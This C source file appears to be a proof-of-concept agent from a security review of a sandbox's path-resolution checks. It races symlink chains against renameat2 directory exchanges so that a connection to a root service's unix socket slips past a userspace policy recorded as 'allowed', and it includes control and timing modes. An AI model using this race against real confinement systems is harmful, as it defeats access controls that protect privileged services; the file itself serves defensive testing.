/* ha62-agent: hostile review h-attack62's agent (see ha62-host.sh).
 *   ha62-agent DIR MODE [CONNECTS]
 * DIR is a host directory holding a root service's socket s.sock (read-only
 * in the run: unix-peer is due for any name that reaches it).
 *
 * MODE xchg: no mount, no namespace. walk_as_kernel holds a descriptor of
 * each directory it has stepped into and looks the next component up in
 * it later; the kernel's own walk does the same, but in microseconds (and
 * its RCU walk restarts when a directory it stands in moved). Two
 * directories A and B under /dev/shm/ha62, each with d/ and links
 * l0 .. l(K-1) of ~2,000 components ("d/../d/../...", each naming the
 * next, the last ending at the directory itself), one named q and holding
 * x -> /proc/self/fd/F (F: DIR, O_PATH), the other named r without x. A
 * thread flips: x into r's, renameat2(q, r, RENAME_EXCHANGE), x out of
 * r's, wait. At every instant q/x exists, so the kernel's lookup of
 *   /dev/shm/ha62/q/l0/x/s.sock
 * reaches the service. Ours (openat2, RESOLVE_NO_MAGICLINKS) fails in
 * /proc; the walk steps into q (A) and, tens of milliseconds of links
 * later, looks x up in A, which by then may be r and have lost x: ENOENT,
 * the same errno as the first lookup's, TRUST: answered ENOENT, recorded
 * allowed, where unix-peer is due. No mount changes, so neither the mount
 * watch nor root_overmounted is asked anything that differs.
 * MODE xchgstatic: the same tree, no flipping (control: the walk reaches
 *   /proc, denied).
 * MODE costroot: 40 links of ~4 kB of "/.." (a ".." at the root: every one
 *   asks root_overmounted), the last a missing name, timed.
 * MODE costmnt: the same with "/dev/shm/../.." (/dev/shm and /dev mount
 *   roots: a statx, an openat2 and two statx at each "..").
 * CONNECTS (default 50). HA62_LINKS: K (default 8); HA62_PHASE_US: each
 * phase (default 15000). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define W "/dev/shm/ha62"

static volatile int stop;
static int phase_us = 15000;
static char xtarget[64];

static int once(const char *name, int quiet)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), rc, err;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", name);
	rc = connect(fd, (struct sockaddr *)&a, sizeof(a));
	err = errno;
	if (rc == 0 && write(fd, "ha62-secret\n", 12) != 12)
		rc = -1;
	if (!quiet)
		fprintf(stderr, "ha62 connect: %s\n", rc == 0 ? "connected" : strerrorname_np(err));
	close(fd);
	return rc == 0 ? 0 : err;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sleep_us(int us)
{
	struct timespec ts = {.tv_sec = us / 1000000, .tv_nsec = (long)(us % 1000000) * 1000};

	nanosleep(&ts, NULL);
}

/* W/DIR/d and W/DIR/l0 .. l(k-1). */
static int links_in(const char *dir, int k)
{
	char t[4096], l[128], next[16];
	int n;

	snprintf(l, sizeof(l), W "/%s", dir);
	mkdir(l, 0755);
	snprintf(l, sizeof(l), W "/%s/d", dir);
	mkdir(l, 0755);
	for (int i = 0; i < k; i++) {
		snprintf(l, sizeof(l), W "/%s/l%d", dir, i);
		n = 0;
		while (n + 5 + 16 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "d/../");
		if (i < k - 1)
			snprintf(next, sizeof(next), "l%d", i + 1);
		else
			strcpy(next, "d/..");
		snprintf(t + n, sizeof(t) - (size_t)n, "%s", next);
		if (symlink(t, l) != 0)
			return -1;
	}
	return 0;
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		sleep_us(phase_us);
		if (symlink(xtarget, W "/r/x") != 0)
			perror("ha62 symlink");
		if (renameat2(AT_FDCWD, W "/q", AT_FDCWD, W "/r", RENAME_EXCHANGE) != 0) {
			perror("ha62 renameat2");
			break;
		}
		unlink(W "/r/x");
	}
	return NULL;
}

/* 40 links of ~4 kB of UNIT from the root, the last naming "missing". */
static int cost(const char *unit)
{
	char t[4096], l[64];
	double t0, t1;
	int n;

	mkdir(W "/c", 0755);
	for (int i = 0; i < 40; i++) {
		snprintf(l, sizeof(l), W "/c/l%d", i);
		n = 0;
		while (n + (int)strlen(unit) + 32 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "%s", unit);
		if (i < 39)
			snprintf(t + n, sizeof(t) - (size_t)n, "/dev/shm/ha62/c/l%d", i + 1);
		else
			snprintf(t + n, sizeof(t) - (size_t)n, "/dev/shm/ha62/c/missing");
		unlink(l);
		if (symlink(t, l) != 0) {
			perror("ha62 symlink");
			return 2;
		}
	}
	t0 = now();
	once(W "/c/l0", 0);
	t1 = now();
	fprintf(stderr, "ha62 cost connect: %.4f s\n", t1 - t0);
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode;
	char name[108];
	int f, k = 8, n = 50, ok = 0, counts[4] = {0};
	pthread_t th;

	if (argc < 3)
		return 2;
	mode = argv[2];
	if (argc > 3)
		n = atoi(argv[3]);
	if (getenv("HA62_LINKS"))
		k = atoi(getenv("HA62_LINKS"));
	if (getenv("HA62_PHASE_US"))
		phase_us = atoi(getenv("HA62_PHASE_US"));
	if (system("rm -rf " W) != 0)
		return 2;
	mkdir(W, 0755);
	if (strcmp(mode, "costroot") == 0)
		return cost("/..");
	if (strcmp(mode, "costmnt") == 0)
		return cost("/dev/shm/../..");
	f = open(argv[1], O_PATH | O_DIRECTORY);
	if (f < 0 || links_in("q", k) != 0 || links_in("r", k) != 0) {
		perror("ha62 setup");
		return 2;
	}
	snprintf(xtarget, sizeof(xtarget), "/proc/self/fd/%d", f);
	if (symlink(xtarget, W "/q/x") != 0) {
		perror("ha62 x");
		return 2;
	}
	snprintf(name, sizeof(name), W "/q/l0/x/s.sock");
	if (strcmp(mode, "xchg") == 0)
		pthread_create(&th, NULL, flipper, NULL);
	else if (strcmp(mode, "xchgstatic") != 0)
		return 2;
	for (int i = 0; i < n; i++) {
		int e = once(name, 1);

		if (e == 0)
			counts[0]++, ok++;
		else if (e == ENOENT)
			counts[1]++;
		else if (e == ECONNREFUSED || e == EACCES || e == EPERM)
			counts[2]++;
		else
			counts[3]++;
	}
	if (strcmp(mode, "xchg") == 0) {
		stop = 1;
		pthread_join(th, NULL);
	}
	fprintf(stderr, "ha62 %s: %d connects: connected %d, ENOENT %d, refused %d, other %d\n",
		mode, n, counts[0], counts[1], counts[2], counts[3]);
	return ok == n ? 0 : 1;
}
